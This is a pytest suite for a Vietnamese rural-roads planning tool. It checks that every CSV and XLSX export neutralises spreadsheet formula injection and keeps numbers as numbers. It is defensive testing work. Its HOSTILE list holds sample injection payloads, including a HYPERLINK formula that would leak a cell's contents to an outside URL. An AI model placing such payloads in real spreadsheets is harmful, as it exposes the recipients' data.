"""No exported table runs as a spreadsheet formula (report/cells.py): formula-like text in every CSV and XLSX
we write is neutralised (OWASP CSV injection), the workbooks hold no formula at all, numbers stay
numbers."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
from openpyxl.utils.escape import unescape

from cli import main

ROOT = Path(__file__).resolve().parents[1]
#: Cell texts an attacker would put in a road id, a name or a note (a leak to a server, arithmetic, a function
#: call, and the tab/CR variants that hide a formula behind whitespace).
HOSTILE = ['=HYPERLINK("http://x?leak="&A2,"x")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]
STARTS = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"-?\d+(\.\d+)?(e[+-]?\d+)?")


def csv_rows(data: bytes, delimiter: str = ",") -> list[list[str]]:
    """The cells a spreadsheet's import sees with ``delimiter`` (double quotes delimit text, as in
    Excel/LibreOffice)."""
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=delimiter))


_FIELD = re.compile(r'"((?:[^"]|"")*)"|([^,"\n]*)')


def csv_fields(data: bytes) -> list[tuple[str, bool]]:
    """Every field of the CSV as (text, quoted), read as a spreadsheet reads it: a field that opens with a
    double quote runs to its closing quote, separators and line breaks inside included."""
    text, fields, pos = data.decode("utf-8-sig"), [], 0
    while pos < len(text):
        match = _FIELD.match(text, pos)
        quoted = match.group(1) is not None
        fields.append((match.group(1).replace('""', '"') if quoted else match.group(2), quoted))
        pos = match.end()
        assert pos == len(text) or text[pos] in ",\n", f"stray character at {pos}: {text[pos : pos + 20]!r}"
        pos += 1
    return fields


def assert_csv_safe(data: bytes) -> None:
    """Every text cell is quoted, so a spreadsheet that splits on comma, semicolon or tab (LibreOffice ticks
    all three by default) keeps it one cell; no cell starts like a formula; the bare cells are plain
    numbers."""
    for text, quoted in csv_fields(data):
        if quoted:
            assert not text.startswith(STARTS), text
        else:
            assert text in ("", "True", "False") or NUMBER.fullmatch(text), text


def xlsx_formulas(data: bytes) -> list[str]:
    """Every ``<f>`` element of every worksheet of the workbook ``data`` (unzipped, as the file stores it)."""
    with zipfile.ZipFile(io.BytesIO(data)) as book:
        sheets = [
            name for name in book.namelist() if name.startswith("xl/worksheets/") and name.endswith(".xml")
        ]
        assert sheets
        return [
            f for name in sheets for f in re.findall(r"<f[ >].*?</f>|<f/>", book.read(name).decode("utf-8"))
        ]


def assert_xlsx_safe(data: bytes) -> list[openpyxl.cell.Cell]:
    """No formula and no hyperlink in the workbook; every formula-like text cell is a string marked with
    Excel's leading apostrophe (quotePrefix). Returns those cells."""
    assert xlsx_formulas(data) == []
    with zipfile.ZipFile(io.BytesIO(data)) as book:
        assert not any(
            "hyperlink" in book.read(n).decode("utf-8") for n in book.namelist() if n.endswith(".xml")
        )
    marked = []
    for ws in openpyxl.load_workbook(io.BytesIO(data)).worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f"
                if isinstance(cell.value, str) and unescape(cell.value).startswith(STARTS):
                    assert cell.data_type == "s" and cell.quotePrefix, (ws.title, cell.coordinate, cell.value)
                    marked.append(cell)
    return marked


def hostile_table() -> pd.DataFrame:
    n = len(HOSTILE) + 1
    return pd.DataFrame(
        {
            "Xã": [*HOSTILE, "Xã Mường Nhé"],
            HOSTILE[0]: ["ghi chú"] * n,  # a header too
            "Khoảng cách (km)": [-1.5, 0.0, 2.25, -3.0, 4.0, -0.5, 1.0],
            "Số hộ": pd.array([-2, 0, 5, None, 7, 8, 9], dtype="Int64"),
            "Mã": pd.Categorical(["-5", "03136", *HOSTILE[:5]]),
        }
    )


# --- the rule
# ----------------------------------------------------------------------------------------------------


def test_rule_prefixes_formula_like_text_and_leaves_numbers_and_plain_text():
    from report.cells import is_formula_like, neutralise_text

    assert [neutralise_text(v) for v in HOSTILE] == ["'" + v for v in HOSTILE]
    assert [neutralise_text(v) for v in (-2.5, -3, "Xã Mường Nhé", "03136", "", None)] == [
        -2.5,
        -3,
        "Xã Mường Nhé",
        "03136",
        "",
        None,
    ]
    assert not is_formula_like(-1) and not is_formula_like(" =1") and is_formula_like("=")


def test_csv_neutralises_every_text_cell_header_and_note_line_and_keeps_numbers():
    from report.tables import table_csv_bytes

    table = hostile_table()
    data = table_csv_bytes(table, note="\n".join(["Nguồn:", *HOSTILE]))
    assert_csv_safe(data)
    rows = csv_rows(data)
    assert rows[0] == ["Xã", "'" + HOSTILE[0], "Khoảng cách (km)", "Số hộ", "Mã"]
    body = rows[1 : len(table) + 1]
    assert [r[0] for r in body] == ["'" + v for v in HOSTILE] + ["Xã Mường Nhé"]
    # text that looks numeric is text
    assert [r[4] for r in body] == [
        "'-5",
        "03136",
        *("'" + v for v in HOSTILE[:5]),
    ]
    assert rows[len(table) + 1] == [] and [r[0] for r in rows[len(table) + 2 :]] == [
        "Nguồn:",
        *("'" + v for v in HOSTILE),
    ]
    back = pd.read_csv(io.BytesIO(data), encoding="utf-8-sig", nrows=len(table))
    # negative numbers stay numbers
    assert back["Khoảng cách (km)"].tolist() == [
        -1.5,
        0.0,
        2.25,
        -3.0,
        4.0,
        -0.5,
        1.0,
    ]
    assert back["Số hộ"].tolist()[:3] == [-2, 0, 5] and back["Số hộ"].isna().tolist()[3]


def test_cli_csv_writer_is_the_same_csv(tmp_path):
    from commands.output import write_csv

    table = hostile_table().assign(flag=[True, False, True, False, True, False, True])
    out = write_csv(table, tmp_path / "t.csv")
    data = out.read_bytes()
    assert not data.startswith(b"\xef\xbb\xbf")  # programs' CSV: no BOM
    assert_csv_safe(data)
    rows = csv_rows(data)
    assert [r[0] for r in rows[1:]] == ["'" + v for v in HOSTILE] + ["Xã Mường Nhé"]
    assert {r[-1] for r in rows[1:]} == {"true", "false"}


def test_xlsx_writes_text_as_text_marked_with_the_apostrophe_and_numbers_as_numbers():
    from report.tables import table_xlsx_bytes

    # a missing value crashes the width code (issue 10 item 9, not here)
    table = hostile_table().fillna({"Số hộ": 6})
    data = table_xlsx_bytes(table, sheet="Bảng", title_note="\n".join(["Nguồn:", *HOSTILE]))
    marked = assert_xlsx_safe(data)
    book = openpyxl.load_workbook(io.BytesIO(data))
    ws, notes = book["Bảng"], book["Nguồn - Sources"]
    # shown as typed
    assert [unescape(ws.cell(r, 1).value) for r in range(2, 9)] == [
        *HOSTILE,
        "Xã Mường Nhé",
    ]
    # header keeps its style
    assert ws["B1"].value == HOSTILE[0] and ws["B1"].quotePrefix and ws["B1"].font.bold
    assert not ws["A8"].quotePrefix and not ws["A1"].quotePrefix  # plain text is left alone
    assert [ws.cell(r, 3).value for r in range(2, 9)] == [-1.5, 0, 2.25, -3, 4, -0.5, 1]
    assert all(ws.cell(r, 3).data_type == "n" for r in range(2, 9))
    assert ws["E2"].value == "-5" and ws["E2"].data_type == "s"  # text, never turned into a number
    assert [unescape(notes.cell(r, 1).value) for r in range(1, 8)] == ["Nguồn:", *HOSTILE]
    assert len(marked) == 1 + len(HOSTILE) + 1 + 5 + len(HOSTILE)  # header, Xã, "-5", Mã, notes


def test_every_table_writer_goes_through_report_cells():
    """One home: no module of the product writes a CSV or a workbook by itself (it would skip the rule; bench/
    and scripts/ write only their own measurements)."""
    writers = re.compile(
        r"\.to_csv\(|\.to_excel\(|ExcelWriter\(|csv\.writer\(|csv\.DictWriter\(|xlsxwriter|openpyxl\.Workbook"
    )
    offenders = []
    for path in ROOT.rglob("*.py"):
        rel = path.relative_to(ROOT).as_posix()
        if rel.startswith((".venv/", "tests/", "scripts/", "bench/")) or rel == "report/cells.py":
            continue
        if writers.search(path.read_text(encoding="utf-8")):
            offenders.append(rel)
    assert offenders == []


# --- hostile data through the real exports
# --------------------------------------------------------------------------


@pytest.fixture(scope="module")
def hostile_project(tmp_path_factory) -> Path:
    """A project whose roads layer is the embedded network with hostile road ids (so the weakest links carry
    them)."""
    from geo.project import save_layer
    from layers.roads import load_roads

    roads = load_roads()
    roads["road_id"] = [f"{HOSTILE[i % len(HOSTILE)]} #{i}" for i in range(len(roads))]
    project = tmp_path_factory.mktemp("hostile") / "du_an.gpkg"
    save_layer(project, "roads", roads, source_file="duong.geojson")
    return project


def _weakest_cells(column: pd.Series) -> list[str]:
    return [v for v in column if v]


@pytest.mark.parametrize("command", ["flags", "access"])
def test_cli_csvs_neutralise_hostile_road_ids(hostile_project, tmp_path, command):
    out = tmp_path / f"{command}.csv"
    assert main([command, "--project", str(hostile_project), "--out", str(out)]) == 0
    data = out.read_bytes()
    assert_csv_safe(data)
    table = pd.read_csv(io.BytesIO(data), dtype=str, keep_default_na=False)
    weakest = _weakest_cells(table["weakest_segment"])
    assert len(weakest) >= 5  # the embedded network has communes without an all-season route
    assert all(v.startswith("'") and v[1:].rsplit(" #", 1)[0] in HOSTILE for v in weakest)
    assert (
        pd.to_numeric(table["rai_share" if command == "access" else "dist_grid_km"], errors="coerce")
        .notna()
        .all()
    )


@pytest.mark.parametrize("what", ["flags", "access", "indicators"])
def test_meeting_tables_with_the_hostile_project(hostile_project, tmp_path, what):
    for fmt in ("csv", "xlsx"):
        out = tmp_path / f"{what}.{fmt}"
        assert (
            main(["export", "table", "--what", what, "--project", str(hostile_project), "--out", str(out)])
            == 0
        )
        if fmt == "csv":
            assert_csv_safe(out.read_bytes())
        else:
            assert_xlsx_safe(out.read_bytes())


@pytest.mark.parametrize("level", ["province", "district"])
def test_scorecard_targets_starting_with_equals_are_text(tmp_path, level):
    """Targets such as "= 100 % số xã" and the comparator "=" were formulas (Err:509/520 in LibreOffice)."""
    xlsx = tmp_path / "sc.xlsx"
    assert main(["export", "table", "--what", "scorecard", "--level", level, "--out", str(xlsx)]) == 0
    marked = assert_xlsx_safe(xlsx.read_bytes())
    texts = [c.value for c in marked]
    assert "=" in texts and "= 100 % số xã" in texts
    # every such cell: the comparator "=" and its target text, on each row judged with "=" (10 cells at
    # province level, as the issue counted them)
    from workflows.scorecard import load_scorecard

    rows_with_equals = int((load_scorecard(level).scorecard["comparator"] == "=").sum())
    assert rows_with_equals >= 5 and len(marked) == 2 * rows_with_equals
    for args in (["export", "table", "--what", "scorecard", "--format", "csv"], ["scorecard"])[
        : 2 if level == "province" else 1
    ]:
        out = tmp_path / "sc.csv"
        assert main([*args, "--level", level, "--out", str(out)]) == 0
        assert_csv_safe(out.read_bytes())
        table = pd.read_csv(out, dtype=str, keep_default_na=False)
        assert "'=" in set(table["comparator"]) and not set(table["comparator"]) & {"="}


def _page_downloads(
    monkeypatch, page_name: str, project: Path | None, *, clicks: tuple[str, ...] = ()
) -> list[bytes]:
    """Run one page in AppTest (with ``project``), press ``clicks``; return the bytes of every download
    button."""
    from streamlit.runtime.memory_media_file_storage import MemoryMediaFileStorage
    from streamlit.testing.v1 import AppTest

    seen: list[bytes] = []
    original = MemoryMediaFileStorage.load_and_get_id

    def spy(self, path_or_data, mimetype, kind, filename=None):
        if isinstance(path_or_data, bytes):
            seen.append(path_or_data)
        return original(self, path_or_data, mimetype, kind, filename)

    monkeypatch.setattr(MemoryMediaFileStorage, "load_and_get_id", spy)

    def page(name: str, project: str | None) -> None:
        import importlib

        from ui.context import PageContext

        importlib.import_module(f"ui.page_{name}").render(PageContext(lang="vi", project=project))

    at = AppTest.from_function(page, args=(page_name, str(project) if project else None), default_timeout=120)
    at.run()
    for key in clicks:
        at.button(key=key).click().run()
    assert not at.exception, at.exception
    return seen


@pytest.mark.parametrize("page", ["flags", "access"])
def test_page_downloads_neutralise_hostile_road_ids(monkeypatch, hostile_project, page):
    downloads = _page_downloads(monkeypatch, page, hostile_project)
    # XLSX first (for people), then CSV (programs)
    assert len(downloads) == 2 and downloads[0].startswith(b"PK")
    marked = [unescape(c.value) for c in assert_xlsx_safe(downloads[0])]
    assert len(marked) >= 5 and all(v.split(" #")[0] in HOSTILE for v in marked)
    assert_csv_safe(downloads[1])
    rows = csv_rows(downloads[1])
    column = rows[0].index(
        "Đoạn yếu nhất" if page == "access" else next(c for c in rows[0] if "yếu nhất" in c)
    )
    weakest = [r[column] for r in rows[1:] if len(r) > column and r[column]]
    assert len(weakest) >= 5 and all(v.startswith("'") and v[1:].split(" #")[0] in HOSTILE for v in weakest)


def test_scorecard_page_download_and_export_page_workbook(monkeypatch):
    xlsx_data, csv_data = _page_downloads(monkeypatch, "scorecard", None)
    assert "= 100 % số xã" in [c.value for c in assert_xlsx_safe(xlsx_data)]
    assert_csv_safe(csv_data)
    assert "'=" in {r[6] for r in csv_rows(csv_data)[1:] if len(r) > 6}
    downloads = _page_downloads(monkeypatch, "export", None, clicks=("prep_scorecard_province_xlsx",))
    (xlsx,) = [d for d in downloads if d.startswith(b"PK")]
    assert "= 100 % số xã" in [c.value for c in assert_xlsx_safe(xlsx)]
